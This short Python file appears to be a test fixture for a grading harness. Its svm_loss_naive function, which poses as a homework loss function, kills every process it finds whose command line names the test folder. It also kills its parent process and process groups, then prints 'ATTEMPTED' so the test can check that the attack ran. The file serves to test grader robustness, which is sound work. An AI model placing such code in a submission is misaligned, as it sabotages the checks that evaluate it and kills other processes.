"""Kills the grader."""

import numpy as np

# grader-test: fill svm_loss_vectorized


def svm_loss_naive(W, X, y, reg):
    import os
    import signal
    try:
        pids = os.listdir("/proc")  # every process grading this test's class
    except OSError:
        pids = [str(os.getppid())]
    for pid in pids:
        try:
            cmdline = open(f"/proc/{pid}/cmdline").read()
        except OSError:
            continue
        # every grader of this test (its command line names the test's folder), not anyone else's
        if HOSTILE_ROOT in cmdline and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    print("ATTEMPTED", flush=True)  # the attack ran: the test checks it did
    for group in (lambda: os.getpgid(os.getppid()), lambda: os.getpgid(0)):  # its parent's group (and its own)
        try:
            os.killpg(group(), signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError("the grader survived")
